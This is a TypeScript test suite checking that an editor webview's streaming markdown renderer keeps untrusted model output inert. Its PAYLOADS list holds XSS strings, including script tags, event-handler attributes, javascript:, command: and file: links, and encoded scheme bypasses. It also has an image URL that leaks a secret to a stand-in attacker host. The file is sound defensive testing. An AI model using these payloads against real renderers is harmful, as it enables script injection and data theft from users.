import { strict as assert } from 'node:assert';
import { StreamingMarkdown } from '../../../webview/markdown';
import { MarkdownDom, prng, randomSplit, recordingHooks } from './markdownTestKit';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x"><style>*{}</style><link rel=stylesheet href=x>',
  '<a href="javascript:alert(1)">x</a>',
  '[a](javascript:alert(1))',
  '[b](JaVaScRiPt:alert(1))',
  '[c](command:workbench.action.terminal.new)',
  '[d](vscode:extension/evil)',
  '[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[f](file:///etc/passwd)',
  '[g](&#106;avascript:alert(1))',
  '[h](&#x6A;&#x61;vascript&colon;alert(1))',
  '[i](java\\tscript:alert(1))',
  '[j](<javascript:alert(1)>)',
  '[k]( javascript:alert(1) "t")',
  '<javascript:alert(1)>',
  '<command:evil>',
  '![x](https://evil.example/leak?secret=abc)',
  '![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![z](data:text/html,<script>alert(1)</script>)',
  '![w](//evil.example/protocol-relative.png)',
  '![v](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=y> | [l](javascript:z) |',
  '> <iframe src=x>',
  '- [x] <svg/onload=alert(1)>',
  '[click](https://ok.example" onclick="alert(1))',
  '[t](https://ok.example "a\\" onmouseover=\\"alert(1)")',
];

/** Asserts the DOM can neither run script nor fetch anything by itself, whatever the markdown said. */
function assertInert(container: HTMLElement, context: string): void {
  const forbidden = container.querySelectorAll('script, iframe, svg, object, embed, style, link, frame, frameset, form, meta, base, math, video, audio, source, picture');
  assert.equal(forbidden.length, 0, `${context}: forbidden element <${forbidden[0]?.tagName}>`);
  for (const node of container.querySelectorAll('*')) {
    for (const attr of node.getAttributeNames()) {
      assert.ok(!/^on/i.test(attr), `${context}: event handler attribute ${attr}`);
      assert.ok(!['style', 'srcset', 'href', 'xlink:href', 'formaction', 'action', 'background', 'poster'].includes(attr.toLowerCase()), `${context}: attribute ${attr}`);
    }
    const src = node.getAttribute('src');
    if (src !== null) {
      assert.equal(node.tagName, 'IMG', `${context}: src on <${node.tagName}>`);
      assert.match(src, /^data:image\/(?:png|jpeg|gif|webp);base64,/, `${context}: img src ${src}`);
    }
  }
  for (const a of container.querySelectorAll('[data-href]')) {
    assert.match(a.getAttribute('data-href')!, /^(?:https?|mailto):/i, `${context}: clickable ${a.getAttribute('data-href')}`);
  }
}

suite('untrusted model output renders inert', () => {
  let md: MarkdownDom;
  suiteSetup(() => {
    md = new MarkdownDom();
  });

  test('every payload, rendered in one go, creates no script, frame, svg, handler, style or remote source', () => {
    for (const payload of PAYLOADS) assertInert(md.render(payload), payload);
  });

  test('raw HTML shows as text', () => {
    const c = md.render('<script>alert(1)</script> and <b onclick=x>bold</b>');
    assert.equal(c.textContent, '<script>alert(1)</script> and <b onclick=x>bold</b>');
    assert.equal(c.querySelector('b'), null);
  });

  test('links with javascript:, command:, vscode:, data:, file: or disguised schemes are plain text, not anchors', () => {
    const c = md.render(PAYLOADS.filter((p) => /^\[[a-k]\]/.test(p)).join('\n\n'));
    assert.equal(c.querySelectorAll('a').length, 0);
    assert.equal(c.querySelectorAll('.md-link-inert').length, 11);
  });

  test('an attribute-breaking quote in a link stays inside the inert data-href value', () => {
    const c = md.render('[t](https://ok.example "a\\" onmouseover=\\"alert(1)")');
    const a = c.querySelector('a')!;
    assert.equal(a.getAttribute('data-href'), 'https://ok.example');
    assert.deepEqual(a.getAttributeNames().sort(), ['class', 'data-href', 'role', 'tabindex', 'title']);
  });

  test('remote, protocol-relative and SVG images load nothing; only http(s) ones offer a load button', () => {
    const c = md.render('![a](https://evil.example/x.png?d=1) ![b](//evil.example/y.png) ![c](data:image/svg+xml;base64,PHN2Zz4=) ![d](file:///x.png)');
    assert.equal(c.querySelectorAll('img').length, 0);
    assert.deepEqual([...c.querySelectorAll('button')].map((b) => b.textContent), ['Load image from evil.example']);
    assert.equal(c.querySelectorAll('.md-image-blocked').length, 3);
  });

  test('an image or link URL hiding an invisible character is not offered for loading or opening', () => {
    const c = md.render('![a](https://evil.example/\u200bx.png) ![b](https://evil.example/%E2%80%8Bok.png) [l](https://evil.example/\u202e)');
    assert.equal(c.querySelectorAll('button').length, 1, 'a percent-encoded character is visible and fine; a raw zero-width one is not');
    assert.equal(c.querySelectorAll('a').length, 0);
  });

  test('payloads split across deltas at every position stay inert at every step', () => {
    const all = PAYLOADS.join('\n\n');
    const random = prng(4242);
    for (let round = 0; round < 20; round++) {
      const container = md.container();
      const stream = new StreamingMarkdown(container, recordingHooks());
      for (const part of randomSplit(all, random, 7)) {
        stream.append(part);
        assertInert(container, `round ${round} after ${JSON.stringify(part)}`);
      }
      stream.finish();
      assertInert(container, `round ${round} final`);
      assert.equal(container.innerHTML, md.render(all).innerHTML);
    }
  });

  test('the renderer never assigns innerHTML or outerHTML or calls insertAdjacentHTML', () => {
    const container = md.render(PAYLOADS.join('\n\n'));
    const proto = md.dom.window.Element.prototype;
    const calls: string[] = [];
    const saved = { inner: Object.getOwnPropertyDescriptor(proto, 'innerHTML')!, outer: Object.getOwnPropertyDescriptor(proto, 'outerHTML')!, adjacent: proto.insertAdjacentHTML };
    Object.defineProperty(proto, 'innerHTML', { ...saved.inner, set(v: string) { calls.push('innerHTML'); saved.inner.set!.call(this, v); } });
    Object.defineProperty(proto, 'outerHTML', { ...saved.outer, set(v: string) { calls.push('outerHTML'); saved.outer.set!.call(this, v); } });
    proto.insertAdjacentHTML = function (this: Element, ...args: [InsertPosition, string]) { calls.push('insertAdjacentHTML'); return saved.adjacent.apply(this, args); };
    try {
      md.stream(randomSplit(PAYLOADS.join('\n\n'), prng(7), 9));
    } finally {
      Object.defineProperty(proto, 'innerHTML', saved.inner);
      Object.defineProperty(proto, 'outerHTML', saved.outer);
      proto.insertAdjacentHTML = saved.adjacent;
    }
    assert.deepEqual(calls, []);
    assert.ok(container.childElementCount > 0);
  });
});
